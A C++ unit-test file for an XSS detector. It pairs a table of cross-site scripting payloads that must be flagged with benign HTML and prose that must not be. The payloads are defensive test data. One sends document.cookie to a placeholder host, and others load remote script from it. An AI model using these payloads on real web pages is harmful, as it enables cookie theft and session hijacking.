// Tables of XSS payloads that must be confirmed and benign rich text,
// markdown and prose that must not be.

#include "detect/lexical/xss_detector.h"

#include <gtest/gtest.h>

#include <string>

#include "detect/lexical/html_lexer.h"

namespace weir::detect {
namespace {

const char* const kAttacks[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//198.18.0.9/x.js></SCRIPT>",
    "<script\n>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert('XSS')>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<div onmouseover = 'alert(1)'>hover</div>",
    "<x onclick=alert(1)>click",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\" \x0e javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "<iframe src=//198.18.0.9></iframe>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><set attributeName=onmouseover to=alert(1) />",
    "<base href=//198.18.0.9/>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<div style=\"width:expression(alert(1))\">",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "\"><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus=alert(1) x='",
    "\" onfocus=\"alert(document.cookie)\" autofocus=\"",
    "';alert(1)//",
    "\"-alert(1)-\"",
    "'+document.cookie+'",
    "\";window.location='//198.18.0.9/'+document.cookie;//",
    "javascript:alert(1)",
    "  JAVASCRIPT:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<svg><script>alert(1)</script></svg>",
    "<link rel=import href=//198.18.0.9/x.html>",
    "</title><img src=x onerror=alert(1)>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<img src=x onerror=alert&#40;1&#41;>",
    "<svg onload=alert`1`>",
    "<script>",
    "<iframe src=//198.18.0.9",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[docs](javascript:alert(document.cookie))",
    "<img src=x onerror=window['al' 'ert'](1)>",
};

const char* const kBenign[] = {
    "<p>Hello <b>world</b></p>",
    "<a href=\"https://example.com/docs\">docs</a>",
    "<a href=\"/help#section-2\" title=\"Help\">help</a>",
    "<a href=\"mailto:team@example.com\">mail us</a>",
    "<img src=\"/img/cat.png\" alt=\"a cat\" width=\"200\">",
    "<span style=\"color: red; font-weight: bold\">warning</span>",
    "<ul><li>one</li><li>two</li></ul>",
    "<table border=\"1\"><tr><td>x</td></tr></table>",
    "<h1 class=\"title\">Release notes</h1>",
    "<div data-id=\"5\" class=\"row\">row</div>",
    "<input type=\"text\" name=\"q\" aria-label=\"Search\">",
    "<form action=\"/search\" method=\"get\">",
    "<video src=\"movie.mp4\" controls></video>",
    "<br/><hr/>",
    "<blockquote cite=\"https://example.com\">quote</blockquote>",
    "a < b and c > d",
    "if (x<y && y>z) return;",
    "I <3 this app",
    "<<<<<>>>>>",
    "Contact: John <john@example.com>",
    "Use the onclick handler to react to clicks",
    "on=1&off=2",
    "He said \"don't\" and left",
    "I'm \"online\" now",
    "She said \"onboarding=done\" yesterday",
    "javascript is great",
    "JavaScript: The Good Parts",
    "data: 123 points",
    "**bold** and _italic_ and `code`",
    "[link](https://example.com) and ![img](x.png)",
    "# Heading\n\n- item one\n- item two",
    "{\"name\":\"value\",\"n\":1}",
    "x = a ? 'yes' : 'no';",
    "It's 5 o'clock; time to go",
    "'quoted' + 'text'",
    "The function alert is deprecated",
    "<p onboarding>text</p>",
    "Price < 10 and rating > 4",
    "the script tag < 3 times in a page",
    "<code>&lt;div&gt;</code>",
    "<em>note:</em> see <strong>docs</strong>",
    "<a href=\"https://example.com/?q=javascript\">search</a>",
    "The string 'on' + 'load' is harmless",
    "<svg width=\"10\" height=\"10\"><circle r=\"4\"/></svg>",
    "Use onClick in React: <Button onClick={handle}>",
    "<iframe is a tag name I mention",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"pixel\">",
    "data:text/plain,hello",
};

TEST(XssDetectorTest, ConfirmsAttacks) {
  static_assert(sizeof(kAttacks) / sizeof(kAttacks[0]) >= 40);
  for (const char* v : kAttacks) EXPECT_TRUE(is_xss(v)) << v;
}

TEST(XssDetectorTest, RejectsBenignValues) {
  static_assert(sizeof(kBenign) / sizeof(kBenign[0]) >= 40);
  for (const char* v : kBenign) EXPECT_FALSE(is_xss(v)) << v << " -> " << analyze_xss(v).reason;
}

TEST(XssDetectorTest, NulAfterTagOpenStillATag) {
  const std::string v("<\0img src=x onerror=alert(1)>", 30);
  EXPECT_TRUE(is_xss(v)) << analyze_xss(v).reason;
  EXPECT_FALSE(is_xss(std::string("a\0b < c", 8)));
}

TEST(HtmlLexerTest, TagsAndAttributes) {
  HtmlLexer lx("x <img src='a b' alt=c/onerror = \"d\">tail</img>");
  std::string_view name;
  bool closing = false;
  ASSERT_TRUE(lx.next_tag(name, closing));
  EXPECT_EQ(name, "img");
  EXPECT_FALSE(closing);
  HtmlAttribute a;
  ASSERT_TRUE(lx.next_attribute(a));
  EXPECT_EQ(a.name, "src");
  EXPECT_EQ(a.value, "a b");
  ASSERT_TRUE(lx.next_attribute(a));
  EXPECT_EQ(a.name, "alt");
  EXPECT_EQ(a.value, "c/onerror");
  while (lx.next_attribute(a)) EXPECT_NE(a.name, "onerror");  // it was inside alt's value
  ASSERT_TRUE(lx.next_tag(name, closing));
  EXPECT_TRUE(closing);
  EXPECT_FALSE(lx.next_tag(name, closing));
}

}  // namespace
}  // namespace weir::detect
